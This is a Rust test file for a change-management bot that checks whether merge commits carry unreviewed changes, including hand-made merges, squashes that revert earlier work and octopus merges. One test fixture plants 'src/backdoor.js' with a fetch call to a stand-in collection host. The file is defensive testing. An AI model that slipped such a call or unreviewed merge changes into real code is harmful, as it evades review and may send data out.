//! G04 to G07, G09, G11, G15: a merge that carries something of its own.
//!
//! Two pull requests change the same folder, so every merge here has to be merged again folder by folder; both change
//! `notes.md`, so that file has to be merged line by line.

use super::{attack, is_approved, is_held};
use crate::support::{TestScene, scene_of};

/// Pull request 872 by lee is merged first; then 871 by dana, which was approved before that.
const BOTH: &str = r#"
title = "Two pull requests"
about = "Both change the folder src and the file notes.md."

[[commits]]
id = "v1"
author = "lee"
files = { "src/totals.js" = "1\n", "src/rates.js" = "1\n", "sec.txt" = "open\n", "notes.md" = "a\nb\nc\nd\ne\nf\ng\n" }

[[commits]]
id = "other"
parents = ["v1"]
author = "lee"
files = { "src/rates.js" = "2\n", "sec.txt" = "closed\n", "notes.md" = "a\nb\nc\nd\ne\nf\nG\n" }

[[commits]]
id = "fix"
parents = ["v1"]
author = "dana"
files = { "src/totals.js" = "2\n", "notes.md" = "A\nb\nc\nd\ne\nf\ng\n" }

[[timeline]]
push = { branch = "main", commit = "v1" }
[[timeline]]
deployed_before = { ticket = "PRODCM-398", commit = "v1" }
[[timeline]]
push = { branch = "rates", commit = "other" }
[[timeline]]
push = { branch = "totals", commit = "fix" }
[[timeline]]
open_pull_request = { number = 872, from = "rates", by = "lee" }
[[timeline]]
open_pull_request = { number = 871, from = "totals", by = "dana" }
[[timeline]]
review = { pull_request = 872, by = "sam" }
[[timeline]]
review = { pull_request = 871, by = "lee" }
[[timeline]]
merge = { pull_request = 872, by = "lee", commit = "first" }
# before the merge
[[timeline]]
merge = { pull_request = 871, by = "dana", commit = "merged" }
[[timeline]]
scan = { commit = "merged" }
[[timeline]]
create_ticket = { key = "PRODCM-412", by = "dana", commit = "merged" }

[[expect]]
ticket = "PRODCM-412"
verdict = "approve"
"#;

const MERGE: &str = "[[timeline]]\nmerge = { pull_request = 871, by = \"dana\", commit = \"merged\" }\n";

fn both() -> TestScene {
    scene_of(BOTH)
}

/// In the attack the merge of 871 has these keys too.
fn merged_with(keys: &str) -> TestScene {
    let attack = MERGE.replace("[[timeline]]\n", "[[timeline]]\nonly = \"scene\"\n");
    let attack = attack.replace("commit = \"merged\"", &format!("commit = \"merged\", {keys}"));
    both().with(MERGE, &(attack + &in_twin(MERGE)))
}

fn in_twin(step: &str) -> String {
    step.replace("[[timeline]]\n", "[[timeline]]\nonly = \"twin\"\n")
}

fn in_scene(step: &str) -> String {
    step.replace("[[timeline]]\n", "[[timeline]]\nonly = \"scene\"\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn g04_a_merge_with_a_file_that_nobody_reviewed() {
    let scene = merged_with("carries = { \"src/backdoor.js\" = \"fetch('https://collect.example')\\n\" }");
    attack(scene, &["is a merge that carries changes of its own, which nobody reviewed, in src/backdoor.js."]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g04_a_merge_with_a_line_that_nobody_reviewed() {
    let scene = merged_with("carries = { \"notes.md\" = \"A\\nb\\nc\\nd!\\ne\\nf\\nG\\n\" }");
    attack(scene, &["is a merge that carries changes of its own, which nobody reviewed, in notes.md."]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g05_a_merge_that_takes_a_reviewed_fix_back() {
    let scene = merged_with("drops = [\"sec.txt\"]");
    attack(scene, &["is a merge that carries changes of its own, which nobody reviewed, in sec.txt."]).await;
}

/// GraphQL cuts files off after half a megabyte, and lock files are larger.
#[tokio::test(flavor = "multi_thread")]
async fn g04_a_line_in_a_file_of_which_graphql_does_not_show_all() {
    let line = "the same line as so many others in this file\\n";
    let large = |text: &str| text.replace("b\\nc\\n", &format!("b\\n{}c\\n", line.repeat(13_000)));
    is_approved(scene_of(&large(BOTH))).await;
    let evil = large("carries = { \"notes.md\" = \"A\\nb\\nc\\nd!\\ne\\nf\\nG\\n\" }");
    let merge = MERGE.replace("commit = \"merged\"", &format!("commit = \"merged\", {evil}"));
    let scene = scene_of(&large(BOTH)).with(MERGE, &merge);
    is_held(scene, &["is a merge that carries changes of its own, which nobody reviewed, in notes.md."]).await;
}

/// The button "Update branch", pressed by the reviewer after the approval, with these keys.
fn update(keys: &str) -> String {
    format!("[[timeline]]\nupdate_branch = {{ pull_request = 871, by = \"lee\", commit = \"updated\"{keys} }}\n")
}

const EDITED: &str = ", files = { \"src/totals.js\" = \"3\\n\" }";

#[tokio::test(flavor = "multi_thread")]
async fn g06_a_conflict_resolved_on_the_web_after_the_approval() {
    let steps = in_scene(&update(EDITED)) + &in_twin(&update(""));
    let scene = both().with("# before the merge\n", &steps);
    attack(scene, &["the approval by Lee Wong does not count"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g06_an_approval_after_the_resolution_counts() {
    let review = "[[timeline]]\nreview = { pull_request = 871, by = \"sam\" }\n";
    is_approved(both().with("# before the merge\n", &(update(EDITED) + review))).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g06_a_clean_update_keeps_the_approval_by_reconstruction_too() {
    let deaf = "[[timeline]]\nfail = { system = \"github\", how = \"drops_webhooks\" }\n";
    let first = "[[timeline]]\npush = { branch = \"rates\"";
    for (steps, approved) in [(update(""), true), (update(EDITED), false)] {
        let scene = both().with(first, &format!("{deaf}{first}")).with("# before the merge\n", &steps);
        if approved {
            is_approved(scene).await;
        } else {
            super::is_held(scene, &["the approval by Lee Wong does not count"]).await;
        }
    }
}

/// Who approved pushes a merge of the release branch that a colleague made: work only when it holds more than that.
#[tokio::test(flavor = "multi_thread")]
async fn g06_an_update_that_the_reviewer_pushed_for_a_colleague() {
    let updated = |only: &str, files: &str| {
        format!(
            "[[commits]]\nid = \"updated\"\nonly = \"{only}\"\nparents = [\"fix\", \"first\"]\nauthor = \"dana\"\n{files}\n"
        )
    };
    let commits = updated("scene", "files = { \"src/backdoor.js\" = \"1\\n\" }") + &updated("twin", "");
    let push = "[[timeline]]\npush = { branch = \"totals\", commit = \"updated\", by = \"lee\" }\n";
    let scene = both().with("# before the merge\n", push).with("[[timeline]]", &format!("{commits}\n[[timeline]]"));
    attack(scene, &["the approval by Lee Wong does not count"]).await;
}

/// A merge made by hand and pushed; in the attack it holds another file.
#[tokio::test(flavor = "multi_thread")]
async fn g07_a_merge_made_by_hand() {
    let byhand = |only: &str, files: &str| {
        format!(
            "[[commits]]\nid = \"merged\"\nonly = \"{only}\"\nparents = [\"first\", \"fix\"]\nauthor = \"dana\"\n{files}\n"
        )
    };
    let commits = byhand("scene", "files = { \"src/backdoor.js\" = \"1\\n\" }") + &byhand("twin", "");
    let push = "[[timeline]]\npush = { branch = \"main\", commit = \"merged\" }\n";
    let scene = both().with(MERGE, push).with("[[timeline]]", &format!("{commits}\n[[timeline]]"));
    attack(scene, &["is a merge that carries changes of its own, which nobody reviewed, in src/backdoor.js."]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g07_a_merge_made_by_hand_that_ignores_one_side() {
    let byhand = |only: &str, combine: &str| {
        format!(
            "[[commits]]\nid = \"merged\"\nonly = \"{only}\"\nparents = [\"first\", \"fix\"]\nauthor = \"dana\"\n{combine}\n"
        )
    };
    let commits = byhand("scene", "combine = false") + &byhand("twin", "");
    let push = "[[timeline]]\npush = { branch = \"main\", commit = \"merged\" }\n";
    let scene = both().with(MERGE, push).with("[[timeline]]", &format!("{commits}\n[[timeline]]"));
    attack(scene, &["which nobody reviewed, in notes.md and src/totals.js."]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g09_the_platform_writes_a_tree_that_reverts_the_merge_before() {
    let scene = merged_with("drops = [\"src/rates.js\", \"sec.txt\", \"notes.md\"]");
    attack(scene, &["which nobody reviewed, in notes.md, sec.txt and src/rates.js."]).await;
}

/// As a merge queue of GitHub did in 2026: two pull requests are squashed one after the other, and the commit of the second
/// holds the files as if the first had never been.
#[tokio::test(flavor = "multi_thread")]
async fn g09_the_second_squash_of_a_group_takes_the_first_back() {
    let squashed = |number: u32, commit: &str, keys: &str| {
        format!(
            "[[timeline]]\nmerge = {{ pull_request = {number}, by = \"dana\", commit = \"{commit}\", method = \"squash\"{keys} }}\n"
        )
    };
    let first = "[[timeline]]\nmerge = { pull_request = 872, by = \"lee\", commit = \"first\" }\n";
    let drops = ", drops = [\"src/rates.js\", \"sec.txt\", \"notes.md\"]";
    let second = in_scene(&squashed(871, "merged", drops)) + &in_twin(&squashed(871, "merged", ""));
    let scene = both().with(first, &squashed(872, "first", "")).with(MERGE, &second);
    let allowed = "[criteria.squash_merge]\nallow_verified_squash = true\n\n[[timeline]]";
    attack(
        scene.with("[[timeline]]", allowed),
        &["holds something else than what was reviewed, in notes.md, sec.txt and src/rates.js."],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g11_a_merge_of_three_lines() {
    let more = "[[commits]]\nid = \"third\"\nparents = [\"v1\"]\nauthor = \"dana\"\nfiles = { \"x.js\" = \"1\\n\" }\n";
    let octopus = "[[commits]]\nid = \"octopus\"\nparents = [\"first\", \"fix\", \"third\"]\nauthor = \"dana\"\n";
    let push = in_scene("[[timeline]]\npush = { branch = \"main\", commit = \"octopus\" }\n");
    let of = |what: &str, commit: &str| format!("[[timeline]]\n{what}commit = \"{commit}\" }}\n");
    let (scan, ticket) = ("scan = { ", "create_ticket = { key = \"PRODCM-412\", by = \"dana\", ");
    let mut scene =
        both().with("[[timeline]]", &format!("{more}{octopus}\n[[timeline]]")).with(MERGE, &(push + &in_twin(MERGE)));
    for what in [scan, ticket] {
        let steps = in_scene(&of(what, "octopus")) + &in_twin(&of(what, "merged"));
        scene = scene.with(&of(what, "merged"), &steps);
    }
    attack(scene, &["came in a merge of more than two lines of work, which cm-bot cannot take apart."]).await;
}

/// The branch of 871 took the release branch in, and the release branch had taken 871's first commit in.
#[tokio::test(flavor = "multi_thread")]
async fn g11_two_lines_that_met_more_than_once() {
    let cross = |only: &str, parents: &str| {
        format!(
            "[[commits]]\nid = \"more\"\nonly = \"{only}\"\nparents = [{parents}]\nauthor = \"dana\"\nfiles = {{ \"src/more.js\" = \"1\\n\" }}\n"
        )
    };
    let commits = cross("scene", "\"fix\", \"other\"") + &cross("twin", "\"fix\"");
    let steps = "[[timeline]]\npush = { branch = \"more\", commit = \"more\" }\n\
                 [[timeline]]\nopen_pull_request = { number = 873, from = \"more\", by = \"dana\" }\n\
                 [[timeline]]\nreview = { pull_request = 873, by = \"sam\" }\n\
                 [[timeline]]\nmerge = { pull_request = 873, by = \"dana\", commit = \"merged\" }\n";
    let merge = MERGE.replace("\"merged\"", "\"second\"") + steps;
    let scene = both().with("[[timeline]]", &format!("{commits}\n[[timeline]]")).with(MERGE, &merge);
    attack(
        scene,
        &["joins two lines of work that met more than once before, or never, so nobody can prove what it carries."],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g15_the_release_branch_moved_on_after_the_approval() {
    is_approved(both()).await;
}

/// The branch of 871 began before the baseline, so the commit at which the lines parted is not in the range.
#[tokio::test(flavor = "multi_thread")]
async fn g15_a_branch_older_than_the_baseline() {
    let older =
        "[[commits]]\nid = \"v2\"\nparents = [\"v1\"]\nauthor = \"lee\"\nfiles = { \"src/rates.js\" = \"0\\n\" }\n";
    let deployed = "[[timeline]]\ndeployed_before = { ticket = \"PRODCM-398\", commit = \"v1\" }\n";
    let moved = "[[timeline]]\npush = { branch = \"main\", commit = \"v2\" }\n";
    let scene = both()
        .with("[[timeline]]", &format!("{older}\n[[timeline]]"))
        .with(deployed, &(moved.to_owned() + &deployed.replace("\"v1\"", "\"v2\"")))
        .with("id = \"other\"\nparents = [\"v1\"]", "id = \"other\"\nparents = [\"v2\"]");
    let attack_merge = MERGE.replace("commit = \"merged\"", "commit = \"merged\", carries = { \"x.js\" = \"1\" }");
    let scene = scene.with(MERGE, &(in_scene(&attack_merge) + &in_twin(MERGE)));
    attack(scene, &["which nobody reviewed, in x.js."]).await;
}
